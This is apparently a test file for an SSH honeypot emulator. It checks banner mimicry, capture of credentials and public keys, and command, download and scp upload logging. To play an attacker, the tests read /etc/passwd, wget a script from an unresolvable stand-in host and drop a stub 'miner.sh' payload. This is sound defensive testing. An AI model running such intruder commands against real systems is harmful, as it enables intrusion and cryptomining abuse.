import { Client } from 'ssh2'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { rawClient, startTestEmulator } from './helpers.ts'
import { connectSsh, execSsh, xtermShell } from './ssh-login.ts'

type Started = Awaited<ReturnType<typeof startTestEmulator>>

describe('ssh emulator', () => {
  let ssh: Started
  beforeAll(async () => {
    ssh = await startTestEmulator('ssh', {
      config: { password: 'rootpw', user: 'deploy', user_password: 'Summer2024!' },
      seed: 'decky-ssh-1',
    })
  })
  afterAll(() => ssh.running.close())

  it('announces a distro OpenSSH banner, stable for one decky seed', async () => {
    const bannerOf = async (host: string, port: number) => {
      const client = await rawClient(host, port)
      const text = await client.expect(/\r\n/)
      client.close()
      return text
    }
    const banner = await bannerOf(ssh.host, ssh.port)
    expect(banner).toMatch(/^SSH-2\.0-OpenSSH_\d\.\d(p1)?( (Ubuntu|Debian)-\S+)?\r\n$/)
    const again = await startTestEmulator('ssh', { seed: 'decky-ssh-1' })
    try {
      expect(await bannerOf(again.host, again.port)).toBe(banner)
    } finally {
      await again.running.close()
    }
  })

  it('captures a failed password attempt with username and password', async () => {
    await expect(connectSsh(ssh, 'admin', 'hunter2')).rejects.toThrow(/authentication/i)
    const event = await ssh.waitFor((e) => e.event === 'auth_attempt' && e.fields.username === 'admin')
    expect(event.fields).toMatchObject({ method: 'password', password: 'hunter2', success: false })
    expect(event.secret_fields).toEqual(['password'])
    expect(event.src_ip).toBe('127.0.0.1')
    expect(String(event.fields.client_version)).toMatch(/^SSH-2\.0-/)
  })

  it('captures an offered public key by fingerprint', async () => {
    const { generateKeyPairSync } = await import('node:crypto')
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
    const pem = privateKey.export({ type: 'pkcs1', format: 'pem' }).toString()
    await expect(
      new Promise((resolve, reject) => {
        const client = new Client()
        client.once('ready', () => resolve(client))
        client.on('error', reject)
        client.connect({
          host: ssh.host,
          port: ssh.port,
          username: 'git',
          privateKey: pem,
          readyTimeout: 10_000,
        })
      }),
    ).rejects.toThrow()
    const event = await ssh.waitFor((e) => e.event === 'auth_attempt' && e.fields.username === 'git')
    expect(event.fields.method).toBe('publickey')
    expect(String(event.fields.fingerprint)).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/)
  })

  it('lets configured credentials into a fake shell that records every command', async () => {
    const client = await connectSsh(ssh, 'deploy', 'Summer2024!')
    try {
      const { channel, screen } = await xtermShell(client)
      const waitScreen = async (pattern: RegExp) => {
        for (let i = 0; i < 100 && !pattern.test(screen()); i++) await new Promise((r) => setTimeout(r, 20))
        expect(screen()).toMatch(pattern)
      }
      await waitScreen(/deploy@SRV-DELTA-42:~\$ $/)
      channel.write('whoami\r')
      await waitScreen(/whoami\r\ndeploy\r\n/)
      channel.write('cat /etc/passwd\r')
      await waitScreen(/root:x:0:0:root:\/root:\/bin\/bash/)
      // A name that does not resolve: the real download fails the way wget says, and is recorded.
      channel.write('wget http://updates.invalid/x.sh\r')
      await waitScreen(/wget: unable to resolve host address 'updates\.invalid'/)
      channel.write('exit\r')
      await new Promise((resolve) => channel.on('close', resolve))
      const commands = ssh.events.filter((e) => e.event === 'command').map((e) => e.fields.cmd)
      expect(commands).toEqual(
        expect.arrayContaining(['whoami', 'cat /etc/passwd', 'wget http://updates.invalid/x.sh']),
      )
      const download = await ssh.waitFor((e) => e.event === 'download')
      expect(download.fields).toMatchObject({
        url: 'http://updates.invalid/x.sh',
        error: 'resolve',
        tool: 'wget',
      })
      const success = await ssh.waitFor((e) => e.event === 'auth_attempt' && e.fields.success === true)
      expect(success.fields.username).toBe('deploy')
    } finally {
      client.end()
    }
  })

  it('answers exec requests plausibly and records them', async () => {
    const client = await connectSsh(ssh, 'root', 'rootpw')
    try {
      const uname = await execSsh(client, 'uname -a')
      expect(uname.output).toMatch(/^Linux SRV-DELTA-42 \S+ .* x86_64 GNU\/Linux\n$/)
      expect(uname.code).toBe(0)
      const id = await execSsh(client, 'id')
      expect(id.output).toBe('uid=0(root) gid=0(root) groups=0(root)\n')
      const event = await ssh.waitFor((e) => e.event === 'command' && e.fields.cmd === 'uname -a')
      expect(event.fields).toMatchObject({ username: 'root', via: 'ssh-exec' })
    } finally {
      client.end()
    }
  })

  it('negotiates what an OpenSSH client prefers (curve25519, chacha20-poly1305, ed25519 host key)', async () => {
    const negotiated = await new Promise<{ kex: string; cipher: string; hostKey: string }>(
      (resolve, reject) => {
        const client = new Client()
        client.once('handshake', (result) => {
          resolve({ kex: result.kex, cipher: result.cs.cipher, hostKey: result.serverHostKey })
          client.end()
        })
        client.on('error', reject)
        client.connect({
          host: ssh.host,
          port: ssh.port,
          username: 'x',
          password: 'y',
          algorithms: {
            kex: ['curve25519-sha256'],
            cipher: ['chacha20-poly1305@openssh.com'],
            serverHostKey: ['ssh-ed25519'],
          },
        })
      },
    )
    expect(negotiated).toEqual({
      kex: 'curve25519-sha256',
      cipher: 'chacha20-poly1305@openssh.com',
      hostKey: 'ssh-ed25519',
    })
  })

  it('captures a file dropped with scp (sink protocol over exec)', async () => {
    const client = await connectSsh(ssh, 'root', 'rootpw')
    const payload = Buffer.from('#!/bin/sh\nwhile :; do :; done\n')
    try {
      const acks = await new Promise<number>((resolve, reject) => {
        client.exec('scp -t /tmp/', (error, stream) => {
          if (error) return reject(error)
          let received = 0
          let step = 0
          stream.on('data', (chunk: Buffer) => {
            received += chunk.filter((byte) => byte === 0).length
            // Each NUL acknowledges the previous step: ready, header accepted, file stored.
            while (step < received) {
              step++
              if (step === 1) stream.write(`C0755 ${payload.length} miner.sh\n`)
              else if (step === 2) stream.write(Buffer.concat([payload, Buffer.from([0])]))
              else if (step === 3) stream.end()
            }
          })
          stream.on('close', () => resolve(received))
        })
      })
      expect(acks).toBe(3)
    } finally {
      client.end()
    }
    const upload = await ssh.waitFor((e) => e.event === 'upload')
    expect(upload.fields).toMatchObject({
      username: 'root',
      via: 'scp',
      path: '/tmp/',
      name: 'miner.sh',
      bytes: payload.length,
      sha256: (await import('node:crypto')).createHash('sha256').update(payload).digest('hex'),
    })
  })
})
